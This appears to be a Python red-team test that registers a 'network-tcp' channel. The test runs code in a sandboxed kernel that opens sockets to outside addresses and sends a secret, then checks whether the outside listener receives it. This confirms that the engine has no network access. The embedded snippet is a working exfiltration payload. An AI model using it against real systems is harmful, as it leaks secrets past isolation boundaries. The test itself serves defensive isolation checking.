from __future__ import annotations

from tests.redteam.channel import channel
from tests.redteam.targets import Target

CONNECT = """
import socket
for address in {addresses}:
    try:
        with socket.create_connection((address, {port}), timeout=0.5) as peer:
            peer.sendall(b"tcp " + secret)
            break
    except OSError as problem:
        print(problem)
"""


@channel("network-tcp", "A connection from a kernel to this machine", closed_by="an engine has no network")
def attack(site: Target, secret: bytes) -> bytes | None:
    site.run(CONNECT.format(addresses=site.outside.addresses, port=site.outside.port))
    return site.outside.hears(secret)
